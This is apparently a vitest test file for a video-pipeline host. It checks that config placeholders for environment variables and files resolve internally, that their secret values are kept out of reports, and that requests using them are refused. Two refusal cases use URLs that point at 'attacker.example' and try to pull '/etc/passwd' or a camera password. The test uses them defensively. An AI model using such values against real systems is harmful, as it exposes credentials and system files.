import { once } from 'node:events';
import { copyFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { testFfmpeg, VideoFolder } from '../support/made-videos.ts';
import { RuledHost } from '../support/ruled-host.ts';
import { waitFor } from '../support/wait-for.ts';

const folder = new VideoFolder();
afterAll(() => folder.remove());

const placeholder = (kind: 'env' | 'file', name: string): string => '$'.concat('{', kind, ':', name, '}');
const FRAMES = 10;
/** In the values of all placeholders below. */
const SECRET = /hidden-word|hidden-user/;

describe('a host whose pipeline file has placeholders', async () => {
  const clip = await folder.make('plain.mp4', { frames: FRAMES });
  const secretClip = join(folder.path, 'hidden-word.mp4');
  copyFileSync(clip, secretClip);
  const pathFile = join(folder.path, 'hook-key');
  writeFileSync(pathFile, 'hidden-word-of-the-hook\n');
  // Accepts connections and closes them: a camera that ends each session.
  const camera = createTcpServer((socket) => void socket.on('error', () => undefined).end()).listen(0, '127.0.0.1');
  const requests: { url: string | undefined; key: unknown; body: string }[] = [];
  const hook = createServer(async (request, response) => {
    let body = '';
    for await (const part of request) body += String(part);
    requests.push({ url: request.url, key: request.headers['x-key'], body });
    response.writeHead(204).end();
  }).listen(0, '127.0.0.1');
  await Promise.all([once(camera, 'listening'), once(hook, 'listening')]);
  const portOf = (server: { address(): AddressInfo | string | null }): number => (server.address() as AddressInfo).port;

  const sources = {
    clip: placeholder('env', 'CLIP'),
    camera: `rtsp://${placeholder('env', 'CAM_USER')}:${placeholder('env', 'CAM_PASS')}@127.0.0.1:${portOf(camera)}/1`,
    gone: `${placeholder('env', 'GONE')}`,
  };
  const variables = {
    CLIP: secretClip,
    CAM_USER: 'hidden-user',
    CAM_PASS: 'hidden-word-of-the-camera',
    GONE: join(folder.path, 'gone-hidden-word.mp4'),
    HOOK_PATH: 'hidden-word-of-the-path',
  };
  const host = await RuledHost.open({
    ffmpegPath: testFfmpeg.path,
    cacheDir: folder.path,
    fleet: { roots: [folder.path] },
    streams: [
      { id: 'clip', source: sources.clip },
      { id: 'camera', source: sources.camera },
      { id: 'gone', source: sources.gone },
    ],
    sinks: [
      {
        type: 'webhook',
        url: `http://127.0.0.1:${portOf(hook)}/${placeholder('env', 'HOOK_PATH')}`,
        batchSize: 5,
        headers: { 'X-Key': `key ${placeholder('file', pathFile)}` },
      },
    ],
    variables,
  });
  afterAll(async () => {
    camera.close();
    hook.close();
    await host.close();
  });
  const reports = () => host.host.report().streams;
  const report = (id: string) => reports().find((stream) => stream.id === id);

  it('opens what they stand for, and posts to it', async () => {
    await host.host.start();
    await waitFor('all frames', () => host.framesOf('clip') === FRAMES);
    await waitFor('a request', () => requests.length > 0);
    expect(requests[0]).toMatchObject({ url: '/hidden-word-of-the-path', key: 'key hidden-word-of-the-hook' });
    expect(requests[0]!.body).not.toMatch(SECRET);
  });

  it('shows them as they are written, and their values nowhere', async () => {
    await waitFor('an error of the camera', () => report('camera')?.lastError != null);
    expect(Object.fromEntries(reports().map(({ id, source }) => [id, source]))).toEqual(sources);
    expect(report('gone')).toMatchObject({ state: 'failed', lastError: `${sources.gone}: no such file` });
    expect(JSON.stringify(reports())).not.toMatch(SECRET);
    expect(host.events.length).toBeGreaterThan(3);
    expect(JSON.stringify(host.events)).not.toMatch(SECRET);
  });

  it('changes a stream whose source has one, without a look at the source', async () => {
    const changed = await host.host.changeStream('camera', { source: sources.camera, priority: 3 });
    expect(changed).toMatchObject({ source: sources.camera, priority: 3 });
  });

  it.each([
    ['of the environment', placeholder('env', 'PATH')],
    ['of a file', `rtsp://attacker.example/${placeholder('file', '/etc/passwd')}`],
    ['that the pipeline file has in another source', `rtsp://attacker.example/${placeholder('env', 'CAM_PASS')}`],
    ['that the pipeline file has in a sink', placeholder('env', 'HOOK_PATH')],
    ['that is the source of another stream', sources.clip],
  ])('refuses one %s in a request', async (_, source) => {
    const refused = { code: 'SOURCE_FORBIDDEN', message: expect.stringContaining('placeholders are resolved only') };
    await expect(host.host.addStream({ id: 'other', source })).rejects.toMatchObject(refused);
    await expect(host.host.changeStream('camera', { source })).rejects.toMatchObject(refused);
    expect(report('camera')?.source).toBe(sources.camera);
  });

  it('opens a source again when the file is read again and a value has changed, and no other', async () => {
    const before = host.framesOf('clip');
    const other = join(folder.path, 'hidden-word-two.mp4');
    copyFileSync(clip, other);
    // The test before has changed a camera.
    await host.reload(variables);
    expect(await host.reload(variables)).toMatchObject({ added: [], changed: [] });
    expect(await host.reload({ ...variables, CLIP: other })).toMatchObject({ added: [], changed: ['clip'] });
    await waitFor('the other clip', () => host.framesOf('clip') === before + FRAMES);
    expect(report('clip')?.source).toBe(sources.clip);
    expect(JSON.stringify(host.events)).not.toMatch(SECRET);
  });
});
